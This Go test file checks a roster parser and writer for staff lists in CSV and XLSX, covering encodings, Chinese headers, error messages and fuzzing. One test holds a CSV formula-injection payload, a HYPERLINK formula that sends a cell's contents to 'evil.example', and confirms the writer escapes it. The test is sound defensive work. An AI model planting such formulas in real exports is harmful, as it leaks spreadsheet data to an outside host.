package roster_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"

	"campaignbot"
	"campaignbot/roster"
)

var (
	surnames = []string{"张", "王", "李", "赵", "刘", "陈", "杨", "黄", "周", "吴"}
	given    = []string{"伟", "芳", "娜"}
	depts    = []string{"办公室", "计划科", "高新技术科", "农村科技科", "科技合作科"}
)

// sampleRoster returns a 30-person roster in UTF-8 with Chinese names,
// Chinese and English role names, quoted lists and empty fields.
func sampleRoster() string {
	var b strings.Builder
	b.WriteString(legacyHeader + "\n")
	for i := range 30 {
		name := surnames[i%10] + given[i/10]
		dept := depts[i%5]
		roles, tg, wc, inCharge := "党员干部", "", "", ""
		switch {
		case i == 0:
			roles, inCharge = `"主要负责人;党员干部"`, `"办公室;计划科;高新技术科"`
		case i < 3:
			roles, inCharge = "班子成员；党员干部", dept+"；农村科技科"
		case i < 8:
			roles = `"middle, member"`
		case i < 11:
			roles = "驻企指导员;member"
		case i == 11:
			roles = "领导小组办公室"
		}
		if i%2 == 0 {
			tg = fmt.Sprintf("@user_%04d", i)
		} else {
			tg = fmt.Sprintf("%d", 100000+i)
		}
		if i%3 == 0 {
			wc = fmt.Sprintf("wx.user-%d@corp", i)
		}
		fmt.Fprintf(&b, "%s,%s,%s,%s,%s,%s\n", name, dept, roles, tg, wc, inCharge)
	}
	return b.String()
}

func writeFile(t *testing.T, name string, data []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func mustParseFile(t *testing.T, path string) []campaignbot.RosterEntry {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	entries, err := roster.Parse(filepath.Base(path), f)
	if err != nil {
		t.Fatalf("parse %s: %v", path, err)
	}
	return entries
}

func TestParseGBKAndUTF8BOM(t *testing.T) {
	src := sampleRoster()
	gbk, err := simplifiedchinese.GBK.NewEncoder().String(src)
	if err != nil {
		t.Fatal(err)
	}
	gbkPath := writeFile(t, "gbk.csv", []byte(gbk))
	bomPath := writeFile(t, "bom.csv", []byte("\uFEFF"+src))
	plainPath := writeFile(t, "plain.csv", []byte(src))

	fromGBK := mustParseFile(t, gbkPath)
	fromBOM := mustParseFile(t, bomPath)
	fromPlain := mustParseFile(t, plainPath)
	if got, want := len(fromGBK), 30; got != want {
		t.Fatalf("GBK entries = %d, want %d", got, want)
	}
	if !reflect.DeepEqual(fromGBK, fromBOM) {
		t.Errorf("GBK and UTF-8 BOM rosters differ:\n%+v\n%+v", fromGBK[:2], fromBOM[:2])
	}
	if !reflect.DeepEqual(fromPlain, fromBOM) {
		t.Errorf("UTF-8 with and without BOM differ")
	}

	head := fromGBK[0]
	want := campaignbot.RosterEntry{
		Line: 2, Name: "张伟", Departments: []string{"办公室"},
		Roles:    []campaignbot.Role{campaignbot.RoleHead, campaignbot.RoleMember},
		Telegram: "user_0000", WeCom: "wx.user-0@corp",
		InChargeOf: []string{"办公室", "计划科", "高新技术科"},
	}
	if !reflect.DeepEqual(head, want) {
		t.Errorf("head entry = %+v, want %+v", head, want)
	}
	if got, want := fromGBK[1].Roles, []campaignbot.Role{campaignbot.RoleLeader, campaignbot.RoleMember}; !reflect.DeepEqual(got, want) {
		t.Errorf("leader roles = %v, want %v", got, want)
	}
	if got, want := fromGBK[1].InChargeOf, []string{"计划科", "农村科技科"}; !reflect.DeepEqual(got, want) {
		t.Errorf("leader in_charge_of = %v, want %v", got, want)
	}
	if got, want := fromGBK[5].Roles, []campaignbot.Role{campaignbot.RoleMiddle, campaignbot.RoleMember}; !reflect.DeepEqual(got, want) {
		t.Errorf("quoted comma roles = %v, want %v", got, want)
	}
	if got, want := fromGBK[9].Roles, []campaignbot.Role{campaignbot.RoleLiaison, campaignbot.RoleMember}; !reflect.DeepEqual(got, want) {
		t.Errorf("liaison roles = %v, want %v", got, want)
	}
	if got, want := fromGBK[11].Roles, []campaignbot.Role{campaignbot.RoleOffice}; !reflect.DeepEqual(got, want) {
		t.Errorf("office roles = %v, want %v", got, want)
	}
	if got, want := fromGBK[29].Line, 31; got != want {
		t.Errorf("last line = %d, want %d", got, want)
	}
}

func TestParseChineseRoleNames(t *testing.T) {
	tests := []struct {
		roles string
		want  []campaignbot.Role
	}{
		{"党员干部", []campaignbot.Role{campaignbot.RoleMember}},
		{"中层干部", []campaignbot.Role{campaignbot.RoleMiddle}},
		{"班子成员", []campaignbot.Role{campaignbot.RoleLeader}},
		{"分管领导", []campaignbot.Role{campaignbot.RoleLeader}},
		{"主要负责人", []campaignbot.Role{campaignbot.RoleHead}},
		{"驻企指导员", []campaignbot.Role{campaignbot.RoleLiaison}},
		{"领导小组办公室", []campaignbot.Role{campaignbot.RoleOffice}},
		{"办公室", []campaignbot.Role{campaignbot.RoleOffice}},
		{"MEMBER", []campaignbot.Role{campaignbot.RoleMember}},
		{`"中层干部、党员干部"`, []campaignbot.Role{campaignbot.RoleMiddle, campaignbot.RoleMember}},
		{"班子成员;分管领导", []campaignbot.Role{campaignbot.RoleLeader}},
	}
	for _, tt := range tests {
		t.Run(tt.roles, func(t *testing.T) {
			src := legacyHeader + "\n李四,计划科," + tt.roles + ",,,\n"
			entries, err := roster.Parse("roster.csv", strings.NewReader(src))
			if err != nil {
				t.Fatal(err)
			}
			if got := entries[0].Roles; !reflect.DeepEqual(got, tt.want) {
				t.Errorf("roles = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestParseBadLine(t *testing.T) {
	lines := strings.Split(strings.TrimSuffix(sampleRoster(), "\n"), "\n")
	// Line 17 of the file is lines[16].
	lines[16] = "错误者,计划科,党员干部;chairman,,,"
	path := writeFile(t, "roster.csv", []byte(strings.Join(lines, "\n")+"\n"))
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	entries, err := roster.Parse("roster.csv", f)
	if err == nil {
		t.Fatal("no error for a bad role")
	}
	if entries != nil {
		t.Errorf("entries = %d, want none", len(entries))
	}
	if got := err.Error(); !strings.HasPrefix(got, "roster.csv:17: ") || !strings.Contains(got, `"chairman"`) || strings.Contains(got, "\n") {
		t.Errorf("error = %q, want one line roster.csv:17: naming the role", got)
	}
	if got, want := campaignbot.ErrorCode(err), campaignbot.EINVALID; got != want {
		t.Errorf("code = %q, want %q", got, want)
	}
	var ce *campaignbot.Error
	if !errors.As(err, &ce) || !strings.Contains(ce.Message, "roster.csv:17:") {
		t.Errorf("errors.As *campaignbot.Error = %v", ce)
	}
}

func TestParseErrors(t *testing.T) {
	h := legacyHeader + "\n"
	long := strings.Repeat("长", 65)
	tests := []struct {
		name string
		src  string
		want []string // each must appear, in order, one per line
	}{
		{"empty file", "", []string{"f.csv:1: the file is empty"}},
		{"only spaces", " \r\n\r\n", []string{"f.csv:1: the file is empty"}},
		{"header only", h, []string{"f.csv:1: no people"}},
		{"wrong header", "名称,科室,角色,telegram,wecom,in_charge_of\n张三,计划科,member,,,\n",
			[]string{`f.csv:1: the header is "名称,科室,角色,telegram,wecom,in_charge_of", expected "id,name,department,roles,telegram,wecom,in_charge_of,team" or "工号,姓名,科室,角色,Telegram,企业微信,分管科室,帮扶组"`}},
		{"missing column", "name,department,telegram,wecom\n", []string{"f.csv:1: the header is \"name,department,telegram,wecom\" and has no roles column"}},
		{"duplicate name", h + "张三,计划科,member,,,\n李四,计划科,member,,,\n张三,办公室,office,,,\n",
			[]string{`f.csv:4: duplicate name "张三" (also on line 2)`}},
		{"duplicate chat accounts", h + "张三,计划科,member,@zhang_san,zhangsan,\n李四,计划科,member,,zhangsan,\n王五,计划科,member,Zhang_San,,\n",
			[]string{`f.csv:3: wecom "zhangsan" is also on line 2`, `f.csv:4: telegram "Zhang_San" is also on line 2`}},
		{"all errors collected", h + ",计划科,member,,,\n王五,,member,,,\n赵六,计划科,,,,\n",
			[]string{"f.csv:2: name is empty", "f.csv:3: department is empty", "f.csv:4: roles is empty"}},
		{"field count", h + "张三,计划科,member\n", []string{"f.csv:2: 3 fields, expected 6"}},
		{"long name", h + long + ",计划科,member,,,\n", []string{"f.csv:2: name is 65 characters long, at most 64"}},
		{"bad telegram", h + "张三,计划科,member,ab,,\n", []string{`f.csv:2: telegram "ab" is neither`}},
		{"scientific telegram", h + "张三,计划科,member,1.23457E+09,,\n", []string{"f.csv:2: telegram \"1.23457E+09\" looks like a number Excel rewrote"}},
		{"bad wecom", h + "张三,计划科,member,,zhang san,\n", []string{`f.csv:2: wecom "zhang san" is not a WeCom UserID`}},
		{"in charge for member", h + "张三,计划科,member,,,办公室\n", []string{"f.csv:2: in_charge_of is only for leaders and heads"}},
		{"bare quote", h + "张\"三,计划科,member,,,\n", []string{"f.csv:2: a quote"}},
		{"invalid GBK", legacyHeader + "\n\xff\xfe\xfd,计划科,member,,,\n", []string{"f.csv:2: invalid characters"}},
		{"control character", h + "张\x01三,计划科,member,,,\n", []string{"f.csv:2: name \"张\\x01三\" contains control"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			entries, err := roster.Parse("f.csv", strings.NewReader(tt.src))
			if err == nil {
				t.Fatalf("no error; entries %+v", entries)
			}
			if entries != nil {
				t.Errorf("entries = %+v, want nil", entries)
			}
			if got, want := campaignbot.ErrorCode(err), campaignbot.EINVALID; got != want {
				t.Errorf("code = %q, want %q", got, want)
			}
			lines := strings.Split(err.Error(), "\n")
			if got, want := len(lines), len(tt.want); got != want {
				t.Fatalf("error has %d lines, want %d:\n%s", got, want, err)
			}
			for i, w := range tt.want {
				if !strings.HasPrefix(lines[i], w) {
					t.Errorf("line %d = %q, want prefix %q", i, lines[i], w)
				}
			}
		})
	}
}

func TestParseCRLFAndQuotes(t *testing.T) {
	src := "\uFEFF Name , DEPARTMENT,roles,Telegram,wecom,in_charge_of \r\n" +
		"\"孙七\",\"计划科;办公室\",\"leader;member\",\"@sun_seven\",\"sun7\",\"计划科;办公室\"\r\n" +
		"\r\n" +
		",,,,,\r\n" +
		"\"周八, 二号\",高新技术科,\"middle；member\",12345,,\r\n"
	entries, err := roster.Parse("crlf.csv", strings.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	want := []campaignbot.RosterEntry{
		{Line: 2, Name: "孙七", Departments: []string{"计划科", "办公室"},
			Roles:    []campaignbot.Role{campaignbot.RoleLeader, campaignbot.RoleMember},
			Telegram: "sun_seven", WeCom: "sun7", InChargeOf: []string{"计划科", "办公室"}},
		{Line: 5, Name: "周八, 二号", Departments: []string{"高新技术科"},
			Roles:    []campaignbot.Role{campaignbot.RoleMiddle, campaignbot.RoleMember},
			Telegram: "12345"},
	}
	if !reflect.DeepEqual(entries, want) {
		t.Errorf("entries =\n%+v\nwant\n%+v", entries, want)
	}
}

func TestParseLeaderDefaultsToOwnDepartment(t *testing.T) {
	src := legacyHeader + "\n钱九,农村科技科,leader,,,\n"
	entries, err := roster.Parse("r.csv", strings.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	if got, want := entries[0].InChargeOf, []string{"农村科技科"}; !reflect.DeepEqual(got, want) {
		t.Errorf("in_charge_of = %v, want %v", got, want)
	}
}

func samplePeople() ([]*campaignbot.Person, []*campaignbot.Department) {
	depts := []*campaignbot.Department{{ID: 1, Name: "计划科"}, {ID: 2, Name: "办公室"}, {ID: 3, Name: "空科室"}}
	people := []*campaignbot.Person{
		{ID: 1, Name: "孙七", DepartmentID: 1, Department: "计划科",
			Roles:      []campaignbot.RoleGrant{{Role: campaignbot.RoleLeader}, {Role: campaignbot.RoleMember}},
			InChargeOf: []int64{1, 3}, Telegram: "sun_seven", WeCom: "sun7",
			Unreachable: []campaignbot.Platform{campaignbot.PlatformTelegram}},
		{ID: 2, Name: "Zhou, \"Ba\"", DepartmentID: 2, Department: "办公室",
			Roles: []campaignbot.RoleGrant{{Role: campaignbot.RoleOffice}}, Telegram: "12345"},
	}
	return people, depts
}

func TestWriteRoundTrip(t *testing.T) {
	people, depts := samplePeople()
	var buf bytes.Buffer
	if err := roster.Write(&buf, people, roster.WithDepartments(depts)); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFFid,name,department,roles,telegram,wecom,in_charge_of,team\r\n")) {
		t.Errorf("output starts %q, want BOM and header", buf.String()[:40])
	}
	entries, err := roster.Parse("list.csv", &buf)
	if err != nil {
		t.Fatal(err)
	}
	want := []campaignbot.RosterEntry{
		{Line: 2, Name: "孙七", Departments: []string{"计划科"},
			Roles:    []campaignbot.Role{campaignbot.RoleLeader, campaignbot.RoleMember},
			Telegram: "sun_seven", WeCom: "sun7", InChargeOf: []string{"计划科", "空科室"}},
		{Line: 3, Name: "Zhou, \"Ba\"", Departments: []string{"办公室"},
			Roles: []campaignbot.Role{campaignbot.RoleOffice}, Telegram: "12345"},
	}
	if !reflect.DeepEqual(entries, want) {
		t.Errorf("round trip =\n%+v\nwant\n%+v", entries, want)
	}
}

func TestTable(t *testing.T) {
	people, depts := samplePeople()
	tests := []struct {
		lang string
		want string
	}{
		{"zh", "" +
			"工号  姓名        科室    角色                Telegram   企业微信  分管科室        帮扶组  已绑定           无法送达\n" +
			"—     孙七        计划科  班子成员、党员干部  sun_seven  sun7      计划科、空科室  —       telegram、wecom  telegram\n" +
			"—     Zhou, \"Ba\"  办公室  领导小组办公室      12345      —         —               —       未绑定           —\n"},
		{"en", "" +
			"id  name        department  roles           telegram   wecom  in charge of    team  bound            unreachable\n" +
			"-   孙七        计划科      leader, member  sun_seven  sun7   计划科, 空科室  -     telegram, wecom  telegram\n" +
			"-   Zhou, \"Ba\"  办公室      office          12345      -      -               -     not bound        -\n"},
	}
	for _, tt := range tests {
		t.Run(tt.lang, func(t *testing.T) {
			var buf bytes.Buffer
			bound := map[int64][]campaignbot.Platform{people[0].ID: {campaignbot.PlatformTelegram, campaignbot.PlatformWeCom}}
			if err := roster.Table(&buf, people, tt.lang, roster.WithDepartments(depts), roster.WithBindings(bound)); err != nil {
				t.Fatal(err)
			}
			if got := buf.String(); got != tt.want {
				t.Errorf("table =\n%s\nwant\n%s", got, tt.want)
			}
		})
	}
}

func TestDisplayWidth(t *testing.T) {
	tests := []struct {
		s    string
		want int
	}{{"", 0}, {"abc", 3}, {"张三", 4}, {"a张；", 5}, {"ｱ", 1}}
	for _, tt := range tests {
		if got := roster.DisplayWidth(tt.s); got != tt.want {
			t.Errorf("DisplayWidth(%q) = %d, want %d", tt.s, got, tt.want)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(sampleRoster()))
	f.Add([]byte(legacyHeader + "\r\n张三,计划科,\"member;leader\",@abcde,zs,计划科\r\n"))
	f.Add([]byte(legacyHeader + "\n\"a\"b,c\n"))
	f.Add([]byte(""))
	f.Add([]byte("\xEF\xBB\xBF" + legacyHeader + "\n\xd5\xc5\xc8\xfd,x,member,,,\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		entries, err := roster.Parse("fuzz.csv", bytes.NewReader(data))
		if err != nil {
			if entries != nil {
				t.Fatalf("entries with error %v", err)
			}
			if campaignbot.ErrorCode(err) != campaignbot.EINVALID {
				t.Fatalf("code %q for %v", campaignbot.ErrorCode(err), err)
			}
			return
		}
		for _, e := range entries {
			if e.Name == "" || len(e.Departments) == 0 || len(e.Roles) == 0 {
				t.Fatalf("incomplete entry %+v", e)
			}
			for _, r := range e.Roles {
				if !r.Valid() {
					t.Fatalf("invalid role %q in %+v", r, e)
				}
			}
		}
	})
}

// Cells a spreadsheet would run as formulas are written with a leading
// quote, and read back as they were.
func TestWriteEscapesFormulas(t *testing.T) {
	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+86 138", "-1+2", "@SUM(A1:A9)", "\tTab", "普通姓名"}
	var people []*campaignbot.Person
	for i, n := range names {
		people = append(people, &campaignbot.Person{ID: int64(i + 1), Name: n, DepartmentID: 1, Department: "=1+1科",
			Roles: []campaignbot.RoleGrant{{Role: campaignbot.RoleMember}}, Telegram: "@user" + strconv.Itoa(i)})
	}
	var buf bytes.Buffer
	if err := roster.Write(&buf, people); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}
	if got, want := recs[1][1], `'=HYPERLINK("http://evil.example/?"&A1,"点击")`; got != want {
		t.Errorf("name cell %q, want %q", got, want)
	}
	if got := recs[6][1]; got != "普通姓名" {
		t.Errorf("a plain name is written as %q", got)
	}
	// Tab and control characters are refused by Parse; the rest read back.
	buf.Reset()
	kept := slices.Delete(slices.Clone(people), 4, 5)
	if err := roster.Write(&buf, kept); err != nil {
		t.Fatal(err)
	}
	entries, err := roster.Parse("list.csv", &buf)
	if err != nil {
		t.Fatal(err)
	}
	for i, e := range entries {
		if want := kept[i].Name; e.Name != want || e.Departments[0] != "=1+1科" || e.Telegram != strings.TrimPrefix(kept[i].Telegram, "@") {
			t.Errorf("entry %d read back as %q %v %q, want %q", i, e.Name, e.Departments, e.Telegram, want)
		}
	}
}

// legacyHeader is the first edition's header, which Parse still reads.
const legacyHeader = "name,department,roles,telegram,wecom,in_charge_of"

// TestParseChineseHeaderIDAndTeam reads the header as the office types it
// in Chinese, with an id column that lets two 王芳 of different 科室 in.
func TestParseChineseHeaderIDAndTeam(t *testing.T) {
	src := "工号,姓名,科室,角色,Telegram,企业微信,分管科室,帮扶组\n" +
		"A001,王芳,计划科,member,,wangfang1,,政策宣传组\n" +
		"A002,王芳,人事科,member,,wangfang2,,困难帮扶组\n" +
		"A003,李强,计划科,leader,,,,\n"
	entries, err := roster.Parse("r.csv", strings.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 3 {
		t.Fatalf("%d entries, want 3", len(entries))
	}
	if e := entries[1]; e.ID != "A002" || e.Name != "王芳" || e.Departments[0] != "人事科" || e.WeCom != "wangfang2" || e.Team != "困难帮扶组" {
		t.Errorf("second 王芳 = %+v", e)
	}
	if roster.Key(&entries[0]) == roster.Key(&entries[1]) {
		t.Errorf("two 王芳 with ids share the key %q", roster.Key(&entries[0]))
	}
}

// TestParseColumnsInAnyOrder takes the header's order, without the
// optional columns.
func TestParseColumnsInAnyOrder(t *testing.T) {
	entries, err := roster.Parse("r.csv", strings.NewReader("角色,姓名,科室\nmember,张三,计划科\n"))
	if err != nil {
		t.Fatal(err)
	}
	if e := entries[0]; e.Name != "张三" || e.Departments[0] != "计划科" || e.Roles[0] != campaignbot.RoleMember {
		t.Errorf("entry = %+v", e)
	}
}

// TestParseXLSX reads the first sheet of a workbook saved by a spreadsheet,
// its rows ending at the last filled cell.
func TestParseXLSX(t *testing.T) {
	f := excelize.NewFile()
	rows := [][]any{
		{"工号", "姓名", "科室", "角色", "Telegram", "企业微信", "分管科室", "帮扶组"},
		{"001", "王芳", "计划科", "党员"},
		{"002", "王芳", "人事科", "member", "", "wf2", "", "创新服务组"},
	}
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow("Sheet1", cell, &r); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	entries, err := roster.Parse("roster.xlsx", &buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 2 || entries[0].ID != "001" || entries[1].WeCom != "wf2" || entries[1].Team != "创新服务组" || entries[1].Line != 3 {
		t.Errorf("entries = %+v", entries)
	}
}

// TestParseRefusesBinaryFiles names what the file is instead of dumping
// its bytes.
func TestParseRefusesBinaryFiles(t *testing.T) {
	for name, data := range map[string][]byte{
		"old.xls":   append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), make([]byte, 64)...),
		"photo.jpg": []byte("\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01"),
		"bad.xlsx":  []byte("PK\x03\x04not really a zip"),
	} {
		_, err := roster.Parse(name, bytes.NewReader(data))
		if err == nil {
			t.Errorf("%s: no error", name)
			continue
		}
		msg := err.Error()
		if !strings.Contains(msg, "xlsx") || !utf8.ValidString(msg) || strings.ContainsRune(msg, 0) || strings.Contains(msg, "JFIF") {
			t.Errorf("%s: error %q does not say to save as xlsx, or dumps bytes", name, msg)
		}
	}
}
